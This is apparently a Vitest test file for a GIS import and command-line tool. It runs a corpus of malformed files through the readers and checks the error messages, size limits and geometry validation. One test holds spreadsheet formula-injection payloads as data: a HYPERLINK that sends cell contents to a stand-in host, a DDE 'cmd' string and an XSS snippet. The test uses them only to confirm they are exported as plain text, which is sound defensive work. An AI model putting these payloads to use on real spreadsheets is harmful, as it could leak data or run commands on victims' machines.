// The bad-input corpus (test/corpus, issue 9 part 2) through the command line and through the import dialog's readers.
// Every file in test/corpus/files has an entry in test/corpus/expected.json and every entry a file: the CLI (main()
// in process, `metrics` for GeoJSON, `convert` for the rest) must exit as the entry says, name the file, the feature
// or line and the problem on stderr, and never print a stack trace; the dialog's readers (src/ui/import/preview.ts,
// then finishImport.ts for what can be confirmed) must say the same. The e2e case test/e2e/cases/corpus.mjs runs the
// same manifest through the built app. The 200 MB GeoJSON is written to a temp folder here, never committed.
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, dirname, join, relative } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { main } from '../../src/cli/main';
import { explainJsonError, findExcessiveNesting, findJsonError, MAX_JSON_DEPTH } from '../../src/core/io/jsonError';
import { decodeJsonBytes, parseJsonText } from '../../src/core/io/geojson';
import { inputSizeProblem, MAX_INPUT_BYTES } from '../../src/core/io/limits';
import { readCoordTxt } from '../../src/core/io/coordTxt';
import { readKml } from '../../src/core/io/kml';
import { encodeGbk } from '../../src/core/io/encoding';
import { polygonRingsIssue } from '../../src/core/schema/geometry';
import { formatProblem } from '../../src/core/schema/problems';
import { validateLayer } from '../../src/core/schema/validate';
import { detectInputs, readInput } from '../../src/ui/import/preview';
import { finishLayer, suggestMapping } from '../../src/ui/import/finishImport';
import { writeBigGeoJson } from '../corpus/bigGeoJson.mjs';

const CORPUS = 'test/corpus';
const FILES = join(CORPUS, 'files');

interface CliExpectation {
  command: 'metrics' | 'convert';
  exit: number;
  stderrIncludes: string[];
  stderrExcludes?: string[];
  stdoutIncludes?: string[];
  stdoutExcludes?: string[];
  stdoutCount?: Record<string, number>;
}
interface AppExpectation {
  messageIncludes: string[];
  added: boolean;
  encoding?: string;
  crs?: string;
  zone?: string;
  dialogIncludes?: string[];
  idleSince?: Record<string, string>;
  files?: 'folder';
}
interface Entry { what: string; cli: CliExpectation; app: AppExpectation; generated?: boolean }
const manifest = JSON.parse(readFileSync(join(CORPUS, 'expected.json'), 'utf8')) as { cliArgs: Record<string, string[]>; files: Record<string, Entry> };
const entries = Object.entries(manifest.files);

function listFiles(dir: string): string[] {
  return readdirSync(dir).flatMap((n) => (statSync(join(dir, n)).isDirectory() ? listFiles(join(dir, n)) : [join(dir, n)]));
}

async function runCli(args: string[]) {
  const out: string[] = [];
  const err: string[] = [];
  let code: number;
  try {
    code = await main(args, { stdout: (t) => out.push(t), stderr: (t) => err.push(t), env: {} });
  } catch (e) {
    // main() promises never to throw; a throw is a failure with its stack in the message.
    code = -1;
    err.push(`THROWN: ${(e as Error)?.stack}`);
  }
  return { code, stdout: out.join('\n'), stderr: err.join('\n') };
}

const STACK = /\n\s+at \S+|internal error|THROWN/;
let tmp = '';
let bigPath = '';

beforeAll(async () => {
  tmp = mkdtempSync(join(tmpdir(), 'park-atlas-corpus-'));
  bigPath = join(tmp, 'big-200mb.geojson');
  await writeBigGeoJson(bigPath, 200 * 1024 * 1024);
}, 120_000);
afterAll(() => {
  if (tmp) rmSync(tmp, { recursive: true, force: true });
});

const pathOf = (name: string, entry: Entry) => (entry.generated ? bigPath : join(FILES, name));

describe('the corpus', () => {
  it('has at least 60 files, each with an entry, and no entry without a file', () => {
    const onDisk = listFiles(FILES).map((p) => relative(FILES, p).split('\\').join('/'));
    // Loose Shapefile parts travel beside the .shp their entry names.
    const entryFiles = onDisk.filter((n) => !(n.includes('/') && !n.endsWith('.shp')));
    const listed = entries.filter(([, e]) => !e.generated).map(([n]) => n);
    expect(entryFiles.sort()).toEqual([...listed].sort());
    expect(entries.length).toBeGreaterThanOrEqual(60);
    for (const [name, e] of entries) {
      expect(e.what, name).toBeTruthy();
      expect(['metrics', 'convert'], name).toContain(e.cli.command);
    }
  });
});

describe('park-atlas on every corpus file (main() in process, --lang en)', () => {
  it.each(entries)('%s', async (name, entry) => {
    const c = entry.cli;
    const path = pathOf(name, entry);
    const r = await runCli([c.command, path, ...(manifest.cliArgs[c.command] ?? []), '--lang', 'en']);
    const context = `${name}\n--- stderr\n${r.stderr.slice(0, 3000)}`;
    expect(r.code, context).toBe(c.exit);
    expect(r.stderr, context).not.toMatch(STACK);
    for (const s of c.stderrIncludes) expect(r.stderr, context).toContain(s);
    for (const s of c.stderrExcludes ?? []) expect(r.stderr, context).not.toContain(s);
    // Bad input names its file: every error line starts with the path (or the path inside the archive).
    for (const line of r.stderr.split('\n').filter((l) => /: error: /.test(l))) expect(line.startsWith(dirname(path)) || line.startsWith(path), line).toBe(true);
    if (c.exit !== 0) expect(r.stdout, context).toBe('');
    for (const s of c.stdoutIncludes ?? []) expect(r.stdout, context).toContain(s);
    for (const s of c.stdoutExcludes ?? []) expect(r.stdout, context).not.toContain(s);
    for (const [s, n] of Object.entries(c.stdoutCount ?? {})) expect(r.stdout.split(s).length - 1, `${context}\ncount of ${s}`).toBe(n);
  });

  it('refuses the 200 MB file from its size: memory stays flat and it takes no time', async () => {
    const before = process.memoryUsage().rss;
    const t0 = performance.now();
    for (const command of ['metrics', 'convert']) {
      const r = await runCli([command, bigPath, '--lang', 'zh']);
      expect(r.code).toBe(1);
      expect(r.stderr).toContain('文件大小 200.0 MB');
    }
    const ms = performance.now() - t0;
    const grewMb = (process.memoryUsage().rss - before) / 1024 / 1024;
    expect(statSync(bigPath).size).toBeGreaterThan(MAX_INPUT_BYTES);
    expect(ms).toBeLessThan(1000);
    expect(grewMb).toBeLessThan(50);
  });

  it('as a real process: exit 1, a message, no stack trace, bounded memory (200 MB file, deep nesting)', () => {
    const rssFile = join(tmp, 'rss.txt');
    const script = `import { writeFileSync } from 'node:fs'; import { main } from './src/cli/main.ts';
      process.on('exit', () => writeFileSync(${JSON.stringify(rssFile)}, String(process.resourceUsage().maxRSS)));
      process.exitCode = await main(process.argv.slice(1));`;
    // The baseline: the same process given a file that does not exist (it reads nothing either).
    const baseline = spawnSync(process.execPath, ['--import', 'tsx', '--input-type=module', '-e', script, 'metrics', join(tmp, 'none.geojson')], { encoding: 'utf8' });
    expect(baseline.stderr).toContain('no such file');
    const baseRssMb = Number(readFileSync(rssFile, 'utf8')) / 1024;
    for (const file of [bigPath, join(FILES, 'deep-nesting-coordinates.geojson')]) {
      const r = spawnSync(process.execPath, ['--import', 'tsx', '--input-type=module', '-e', script, 'metrics', file, '--lang', 'en'], { encoding: 'utf8', env: { ...process.env, LANG: 'C' } });
      expect(r.status, r.stderr).toBe(1);
      expect(r.stderr).toContain(basename(file));
      expect(r.stderr).not.toMatch(STACK);
      const rssMb = Number(readFileSync(rssFile, 'utf8')) / 1024;
      // The refused file is never read: the process stays within 64 MB of one that reads nothing.
      expect(rssMb - baseRssMb, `${file}: ${rssMb.toFixed(0)} MB vs ${baseRssMb.toFixed(0)} MB`).toBeLessThan(64);
    }
  }, 60_000);
});

describe("the import dialog's readers on every corpus file (preview.ts, then finishImport.ts)", () => {
  it.each(entries)('%s', async (name, entry) => {
    const a = entry.app;
    let files: Array<{ name: string; bytes: Uint8Array; size?: number }>;
    if (entry.generated) {
      // The dialog does not read a file over the limit: it passes the size (ImportDialog.tsx).
      files = [{ name: basename(bigPath), bytes: new Uint8Array(0), size: statSync(bigPath).size }];
    } else if (a.files === 'folder') {
      const dir = join(FILES, dirname(name));
      files = readdirSync(dir).map((n) => ({ name: n, bytes: new Uint8Array(readFileSync(join(dir, n))) }));
    } else {
      files = [{ name: basename(name), bytes: new Uint8Array(readFileSync(join(FILES, name))) }];
    }
    const messages: string[] = [];
    let added = false;
    const facts: string[] = [];
    for (const d of detectInputs(files)) {
      for (const p of await readInput(d, { longitudeHint: 114 })) {
        messages.push(...p.problems.map((q) => formatProblem(q, 'en')));
        facts.push(`encoding ${p.encoding?.name} crs ${p.crs.status} ${p.crs.zone ? `${p.crs.zone.width}/${p.crs.zone.zone}` : ''}`);
        if (a.encoding) expect(p.encoding?.name, name).toBe(a.encoding);
        if (a.crs) expect(p.crs.status, name).toBe(a.crs);
        if (a.zone) expect(p.crs.zone ? `${p.crs.zone.width}/${p.crs.zone.zone}` : '', name).toBe(a.zone);
        if (!p.blocking && p.collection && p.featureCount > 0 && !p.table) {
          const kind = p.suggestedKind ?? 'parcel';
          const r = finishLayer(p.collection, suggestMapping(p.fields, kind, p.fieldUnits), kind, p.fileLabel, 'corpus', { zh: p.title, en: p.title });
          expect(r.ok, name).toBe(true);
          if (r.ok) {
            added = true;
            messages.push(...r.problems.map((q) => formatProblem(q, 'en')));
          }
        }
      }
    }
    const text = messages.join('\n');
    for (const s of a.messageIncludes) expect(text, `${name}\n${text}\n${facts.join('\n')}`).toContain(s);
    expect(added, `${name}: confirmable`).toBe(a.added);
    // A file that cannot be added says why.
    if (!a.added) expect(messages.length, name).toBeGreaterThan(0);
  });
});

describe('exports neutralise formula injection (issue 9 part 5)', () => {
  it('park-atlas report: text that starts like a formula is written as text, and no cell holds a formula', async () => {
    const ExcelJS = (await import('exceljs')).default;
    const hostile = ['=HYPERLINK("http://evil.invalid/?"&A1,"open")', '+SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1)', '\t=1+1', '<img src=x onerror=alert(1)>'];
    const sq = (x: number) => [[[x, 33], [x + 0.002, 33], [x + 0.002, 33.0015], [x, 33.0015], [x, 33]]];
    const layer = { type: 'FeatureCollection', kind: 'parcel', features: hostile.map((h, i) => ({ type: 'Feature', id: h, properties: { name: h, enterprise: h, industry: h, landUse: 'industrial', investmentWan: 100, agreedStartDate: '2018-01-01', landPriceWan: 10, [h]: h }, geometry: { type: 'Polygon', coordinates: sq(114 + i * 0.003) } })) };
    const input = join(tmp, 'hostile.geojson');
    const out = join(tmp, 'hostile.xlsx');
    writeFileSync(input, JSON.stringify(layer));
    const r = await runCli(['report', input, '-o', out, '--review-date', '2026-06-30', '--lang', 'en']);
    expect(r.code, r.stderr).toBe(0);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(out);
    const texts: string[] = [];
    let formulas = 0;
    wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => {
      if (cell.type === ExcelJS.ValueType.Formula) formulas++;
      if (typeof cell.value === 'string') texts.push(cell.value);
    })));
    expect(formulas).toBe(0);
    // Every payload reached the workbook, each behind an apostrophe when it starts like a formula (xlsx.ts guardText).
    for (const h of hostile) {
      const risky = /^[=+\-@\t\r]/.test(h);
      const want = risky ? `'${h}` : h;
      expect(texts, h).toContain(want);
      if (risky) expect(texts.some((t) => t === h), `${h} written bare`).toBe(false);
    }
  });
});

describe('the reader fixes the corpus asked for', () => {
  it('explains the commonest hand-edit faults in JSON', () => {
    const at = (t: string) => explainJsonError(t, findJsonError(t)!.offset);
    expect(at('{"a": NaN}')).toMatch(/NaN is not allowed/);
    expect(at('{"a": -Infinity}')).toMatch(/Infinity is not allowed/);
    expect(at('/* x */ {}')).toMatch(/comments/);
    expect(at("{'a': 1}")).toMatch(/double quotes/);
    expect(at('[1, 2, ]')).toMatch(/trailing comma/);
    expect(at('{"a": 1, }')).toMatch(/trailing comma/);
    expect(at('{a: 1}')).toMatch(/property names need double quotes/);
    expect(at('{"a": "b')).toMatch(/cut short/);
    expect(at('{} {}')).toMatch(/second JSON document/);
    expect(at('{"a": tru}')).toBeNull();
  });

  it('refuses nesting deeper than MAX_JSON_DEPTH, counting brackets outside strings only', () => {
    const nest = (n: number) => `${'['.repeat(n)}${']'.repeat(n)}`;
    expect(findExcessiveNesting(nest(MAX_JSON_DEPTH))).toBeNull();
    expect(findExcessiveNesting(nest(MAX_JSON_DEPTH + 1))).toEqual({ offset: MAX_JSON_DEPTH, depth: MAX_JSON_DEPTH + 1 });
    expect(findExcessiveNesting(`{"s": "${'['.repeat(500)}\\"${'{'.repeat(500)}"}`)).toBeNull();
    const r = parseJsonText(`{"a":${nest(1000)}}`, 'x.geojson');
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.problems[0].code).toBe('json-too-deep');
  });

  it('decodes GBK and UTF-16 JSON with a warning and names ZIP and binary files', () => {
    const gbk = decodeJsonBytes(encodeGbk('{"name":"汝南"}').bytes, 'g.geojson');
    expect(gbk.ok && gbk.text).toBe('{"name":"汝南"}');
    expect(gbk.ok && gbk.problems.map((p) => p.code)).toEqual(['encoding-not-utf8']);
    const plain = decodeJsonBytes(new TextEncoder().encode('{"name":"汝南"}'), 'u.geojson');
    expect(plain.ok && plain.problems).toEqual([]);
    const zip = decodeJsonBytes(new Uint8Array([0x50, 0x4b, 3, 4, 0, 0]), 'z.geojson');
    expect(!zip.ok && zip.problems[0].code).toBe('not-json-zip');
    const bin = decodeJsonBytes(new Uint8Array([0x7b, 0, 1, 2]), 'b.geojson');
    expect(!bin.ok && bin.problems[0].code).toBe('not-json-binary');
  });

  it('refuses files over the size limit, naming size and limit', () => {
    expect(inputSizeProblem('a.geojson', MAX_INPUT_BYTES)).toBeNull();
    const p = inputSizeProblem('a.geojson', 150 * 1024 * 1024)!;
    expect(formatProblem(p, 'en')).toContain('a.geojson: error: is 150.0 MB; files over 100.0 MB are not read');
  });

  it('checks that holes stay inside their outer ring (touching at a point is allowed)', () => {
    const outer = [[0, 0], [10, 0], [10, 10], [0, 10], [0, 0]];
    const inside = [[2, 2], [2, 4], [4, 4], [4, 2], [2, 2]];
    const touching = [[0, 5], [2, 6], [2, 4], [0, 5]];
    const crossing = [[8, 8], [8, 12], [9, 12], [9, 8], [8, 8]];
    const outside = [[20, 20], [20, 22], [22, 22], [22, 20], [20, 20]];
    expect(polygonRingsIssue([outer, inside])).toBeNull();
    expect(polygonRingsIssue([outer, touching])).toBeNull();
    expect(polygonRingsIssue([outer, crossing])).toEqual({ kind: 'crossing', rings: [0, 1], at: [8, 10] });
    expect(polygonRingsIssue([outer, outside])).toEqual({ kind: 'hole-outside', ring: 1 });
    expect(polygonRingsIssue([outer, inside, [[3, 1], [3, 5], [3.5, 5], [3.5, 1], [3, 1]]])).toMatchObject({ kind: 'crossing', rings: [1, 2] });
    const layer = (rings: number[][][]) => ({ type: 'FeatureCollection', kind: 'parcel', features: [{ type: 'Feature', id: 'A', properties: {}, geometry: { type: 'Polygon', coordinates: rings.map((r) => r.map(([x, y]) => [114 + x / 1000, 33 + y / 1000])) } }] });
    const v = validateLayer(layer([outer, outside]), 'h.geojson');
    expect(v.ok && v.value.invalidIds).toEqual(['A']);
    expect(v.ok && v.value.problems.map((p) => p.code)).toEqual(['hole-outside']);
  });

  it('warns once per field about text already damaged by a wrong decode (U+FFFD)', () => {
    const f = (id: string, enterprise: string) => ({ type: 'Feature', id, properties: { enterprise }, geometry: { type: 'Polygon', coordinates: [[[114, 33], [114.001, 33], [114.001, 33.001], [114, 33]]] } });
    const v = validateLayer({ type: 'FeatureCollection', kind: 'parcel', features: [f('A', '\uFFFD\uFFFD公司'), f('B', '正常'), f('C', '\uFFFD')] }, 'm.geojson');
    const damaged = v.ok ? v.value.problems.filter((p) => p.code === 'text-damaged') : [];
    expect(damaged).toHaveLength(1);
    expect(damaged[0]).toMatchObject({ featureId: 'A', field: 'enterprise' });
    expect(damaged[0].message.en).toContain('2 features have this');
  });

  it('refuses degrees in a 坐标TXT and projected or swapped KML coordinates', () => {
    const txt = '[属性描述]\n坐标系=2000国家大地坐标系\n带号=38\n[地块坐标]\n4,,A,,面,,,,@\n1,1,33.0,114.0\n2,1,33.0,114.001\n3,1,33.001,114.001\n1,1,33.0,114.0\n';
    const t = readCoordTxt(txt, 'd.txt');
    expect(!t.ok && t.problems.map((p) => p.code)).toEqual(['coordinates-degrees']);
    const kml = (coords: string) => `<kml><Document><Placemark id="A"><Polygon><outerBoundaryIs><LinearRing><coordinates>${coords}</coordinates></LinearRing></outerBoundaryIs></Polygon></Placemark></Document></kml>`;
    const swapped = readKml(kml('33,114 33,114.001 33.001,114.001 33,114'), 's.kml');
    expect(swapped.ok && swapped.problems.map((p) => p.code)).toEqual(['kml-not-lonlat']);
    const fine = readKml(kml('114,33 114.001,33 114.001,33.001 114,33'), 'f.kml');
    expect(fine.ok && fine.problems).toEqual([]);
  });
});
